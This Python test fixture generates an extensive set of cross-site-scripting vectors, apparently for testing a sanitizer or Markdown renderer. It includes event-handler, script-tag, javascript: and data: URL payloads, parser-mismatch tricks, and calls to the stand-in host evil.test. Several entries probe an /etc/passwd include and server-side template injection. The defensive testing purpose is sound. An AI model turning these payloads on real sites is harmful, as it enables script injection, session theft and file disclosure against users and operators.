"""Texts with which a contributor could try to run a script in a reader's browser.

All of them call ``trip()`` or ask ``https://evil.test`` when they work; a test defines the one and watches for the
other. They are made from families, so that each idea meets each way of writing it.
"""

from __future__ import annotations

from itertools import product

CALL = "trip()"
EVIL = "https://evil.test/"

EVENTS_AT_ONCE = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("details open", "ontoggle"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("object data=x:", "onerror"),
    ("style", "onload"),
    ("iframe", "onload"),
    ("embed src=x type=image/png", "onerror"),
    ("svg><image href=x", "onerror"),
    ("svg><animate attributeName=x dur=1ms", "onbegin"),
    ("svg><set attributeName=x dur=1ms", "onbegin"),
    ("marquee", "onstart"),
    ("table background=x", "onerror"),
)

EVENTS_WHEN_TOUCHED = (
    *("onclick", "onmouseover", "onpointerover", "onfocus", "onmouseenter", "ondblclick", "onauxclick"),
    *("oncontextmenu", "onwheel", "onkeydown", "oncopy", "ondragstart", "ontransitionend", "onbeforetoggle"),
)

# Ways of writing one attribute that holds a script.
ATTRIBUTE_FORMS = (
    "<{tag} {event}={call}>",
    "<{tag} {event}='{call}'>",
    '<{tag} {event}="{call}">',
    "<{tag}/{event}={call}>",
    "<{tag}\n{event}\n=\n{call}\n>",
    "<{tag} {upper}=`{call}`>".replace("`", '"'),
    "<{tag} {event}=&#116;rip()>",
    "<{tag} {event}=\\u0074rip()>",
)

SCRIPTS = (
    "<script>trip()</script>",
    "<SCRIPT>trip()</SCRIPT>",
    "<script >trip()</script >",
    "<script\t>trip()</script\t>",
    "<script/x>trip()</script/x>",
    "<script type=module>trip()</script>",
    "<script type=text/javascript>trip()</script>",
    "<script src=data:text/javascript,trip()></script>",
    "<script src=//evil.test/a.js></script>",
    "<script src=https://evil.test/a.js></script>",
    "<script type=module src=data:text/javascript,trip()></script>",
    "<script type=module>import('data:text/javascript,trip()')</script>",
    "<script>eval('tr'+'ip()')</script>",
    "<script>setTimeout('trip()',0)</script>",
    "<script>new Function('trip()')()</script>",
    "<script>fetch('https://evil.test/')</script>",
    "<script>new Image().src='https://evil.test/'</script>",
    "<script>navigator.sendBeacon('https://evil.test/')</script>",
    "<script>new WebSocket('wss://evil.test/')</script>",
    "<script>new Worker('data:text/javascript,fetch(1)');trip()</script>",
    "<svg><script>trip()</script></svg>",
    "<svg><script>trip&#40;)</script></svg>",
    "<svg><script href=data:text/javascript,trip() /></svg>",
    "<svg><script xlink:href=data:text/javascript,trip() /></svg>",
    "<math><mtext><script>trip()</script></mtext></math>",
    "<template><script>trip()</script></template><script>trip()</script>",
    "<noscript><p title='</noscript><script>trip()</script>'></noscript>",
    "<scr<script>ipt>trip()</scr</script>ipt>",
    "<<script>trip()//<</script>",
    "<script>/*</script><script>*/trip()</script>",
    "<!--><script>trip()</script>-->",
    "<!-- --!><script>trip()</script>",
    "<!---!><script>trip()</script>-->",
    "<![CDATA[<script>trip()</script>]]>",
    "<?xml ?><script>trip()</script>",
    "<!DOCTYPE x><script>trip()</script>",
)

# What closes the place it stands in: an attribute, an element, a script, a style, a comment, a title.
CLOSERS = ('"', "'", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</a>", "</td>")
AFTER_CLOSERS = ("<script>trip()</script>", "<img src=x onerror=trip()>", "<svg onload=trip()>")
BROKEN_OUT = (
    '" onmouseover="trip()" x="',
    "' onmouseover='trip()' x='",
    '" autofocus onfocus="trip()" x="',
    "' autofocus onfocus='trip()' x='",
    '" onerror="trip()" src="x',
    "` onmouseover=`trip()`",
    '" style="animation-name:x" onanimationstart="trip()" x="',
    '"><base href="https://evil.test/">',
    '"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '"><link rel="stylesheet" href="https://evil.test/x.css">',
    '"><form action="javascript:trip()"><button>x</button></form>',
    '"><iframe srcdoc="<script>parent.trip()</script>"></iframe>',
)

SCHEMES = (
    "javascript:trip()",
    "JavaScript:trip()",
    "JAVASCRIPT:trip()",
    "javascript://%0atrip()",
    "javascript:void(trip())",
    "javascript:/*x*/trip()",
    "javascript&colon;trip()",
    "javascript&#58;trip()",
    "javascript&#x3a;trip()",
    "&#106;avascript:trip()",
    "&#x6A;avascript:trip()",
    "java&Tab;script:trip()",
    "java&NewLine;script:trip()",
    "java\tscript:trip()",
    "&#1;javascript:trip()",
    "\x01javascript:trip()",
    "javascript\\:trip()",
    "vbscript:trip()",
    "data:text/html,<script>parent.trip()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQudHJpcCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.trip()'/>",
    "view-source:javascript:trip()",
    "blob:javascript:trip()",
    "feed:javascript:trip()",
)
HTML_LINKS = (
    '<a href="{url}">x</a>',
    '<svg><a href="{url}"><text y=9>x</text></a></svg>',
    '<form action="{url}"><input type=submit></form>',
    '<form><button formaction="{url}">x</button></form>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
)
MARKDOWN_LINKS = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "<{url}>",
    "![x]({url})",
    "[x][r]\n\n[r]: {url}",
    "[![x](a.png)]({url})",
)

MARKDOWN = (
    "[x](a\"onmouseover='trip()')",
    '[x](a "b\\" onmouseover=\\"trip()")',
    '![x](a" onerror="trip())',
    '![" onerror="trip()](a.png)',
    "![x](a.png 'b\" onerror=\"trip()')",
    "[<img src=x onerror=trip()>](a)",
    "![<script>trip()</script>](a.png)",
    "## <img src=x onerror=trip()>",
    '## x {: onclick="trip()" #a"onclick="trip() }',
    "x{: onmouseover=trip() }",
    "`<script>trip()</script>`",
    "``x` <script>trip()</script>``",
    "    <script>trip()</script>",
    "```\n</code></pre><script>trip()</script>\n```",
    '```html onload="trip()"\nx\n```',
    "~~~ {: onmouseover=trip() }\nx\n~~~",
    "<div markdown=1><script>trip()</script></div>",
    "<div markdown='1' onmouseover='trip()'>x</div>",
    "| a | b |\n|---|---|\n| <script>trip()</script> | `|` |",
    '|<img src=x onerror=trip()>|b|\n|:-:" onmouseover=trip() |---|\n|c|d|',
    "> <script>trip()</script>",
    "- <svg onload=trip()>",
    "1. <svg onload=trip()>",
    "*<svg onload=trip()>*",
    "**<svg onload=trip()>**",
    "x[^1]\n\n[^1]: <svg onload=trip()>",
    '*[x]: " onmouseover="trip()\n\nx',
    "[toc]<script>trip()</script>",
    "\x02wzxhzdk:0\x03<script>trip()</script>",
    "\x02amp\x03lt;script>trip()",
    "&lt;script&gt;trip()&lt;/script&gt;",
    "&#60;script&#62;trip()&#60;/script&#62;",
    "\\<script>trip()\\</script>",
    '<https://evil.test/"onmouseover="trip()>',
    '<a@b.c"onmouseover="trip()>',
    '--8<-- "/etc/passwd"',
    "{{ trip() }}{% include 'x' %}{{ config.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${trip()} #{trip()} <%= trip() %>",
    "{!trip()!} [[${trip()}]] ng-app {{constructor.constructor('trip()')()}}",
)

# What a cleaner that reads HTML otherwise than a browser lets through.
MISREAD = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=trip()&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=trip()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip()>",
    "<noscript><style></noscript><img src=x onerror=trip()>",
    "<select><template></select><img src=x onerror=trip()>",
    "<xmp><img title='</xmp><img src=x onerror=trip()>'></xmp>",
    "<plaintext><img src=x onerror=trip()>",
    "<listing>&lt;img src=x onerror=trip()&gt;</listing>",
    "<table><caption><svg><title><style><img src=x onerror=trip()>",
    "<textarea><img title='</textarea><img src=x onerror=trip()>'>",
    "<title><img title='</title><img src=x onerror=trip()>'>",
    "<iframe srcdoc='<script>parent.trip()</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.trip()&gt;'></iframe>",
    "<object data='data:text/html,<script>parent.trip()</script>'></object>",
    "<meta http-equiv=refresh content='0;javascript:trip()'>",
    "<meta http-equiv=refresh content='0;https://evil.test/'>",
    "<base href='https://evil.test/'><script src=a.js></script>",
    "<link rel=import href=https://evil.test/>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=prefetch href=https://evil.test/>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>body{background:url(https://evil.test/)}</style>",
    "<p style='background:url(https://evil.test/)'>x",
    "<img src=https://evil.test/x.png>",
    "<img srcset='https://evil.test/x.png 1x'>",
    "<picture><source srcset=https://evil.test/x.png><img></picture>",
    "<video poster=https://evil.test/x.png>",
    "<input type=image src=https://evil.test/x.png>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=trip()>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.trip()</script>'></iframe></foreignObject></svg>",
    "<svg><a><animate attributeName=href values=javascript:trip() /><text y=9>x</text></a></svg>",
    "<details open><summary>x</summary><img src=x onerror=trip()></details>",
    "<p is=x contenteditable onfocus=trip() autofocus>",
    "<x onclick=trip() tabindex=1>x</x>",
    "<x-y onpointerover=trip()>x</x-y>",
    "<img src=x onerror=trip()//",
    "<img src=x onerror=trip() ",
    "<svg/onload=trip()",
    "<dialog open onclose=trip()><form method=dialog><button>x</button></form></dialog>",
    "<button popovertarget=a>x</button><p popover id=a onbeforetoggle=trip()>y",
)


def _attributes() -> list[str]:
    forms = product(EVENTS_AT_ONCE, ATTRIBUTE_FORMS[:4])
    found = [form.format(tag=tag, event=event, upper=event.upper(), call=CALL) for (tag, event), form in forms]
    for form in ATTRIBUTE_FORMS[4:]:
        found.append(form.format(tag="img src=x", event="onerror", upper="ONERROR", call=CALL))
    return found + [f"<b {event}=trip() tabindex=0 draggable=true>x</b>" for event in EVENTS_WHEN_TOUCHED]


def _closers() -> list[str]:
    return [f"x{closer}{script}" for closer, script in product(CLOSERS, AFTER_CLOSERS)] + list(BROKEN_OUT)


HTML: tuple[str, ...] = (
    *SCRIPTS,
    *_attributes(),
    *_closers(),
    *(link.format(url=url) for url, link in product(SCHEMES, HTML_LINKS[:2])),
    *(link.format(url=url) for url, link in product(SCHEMES[:3], HTML_LINKS[2:])),
    *MISREAD,
)
MARKDOWN_TEXTS: tuple[str, ...] = (
    *MARKDOWN,
    *(link.format(url=url) for url, link in product(SCHEMES, MARKDOWN_LINKS)),
)
VECTORS: tuple[str, ...] = tuple(dict.fromkeys((*HTML, *MARKDOWN_TEXTS)))
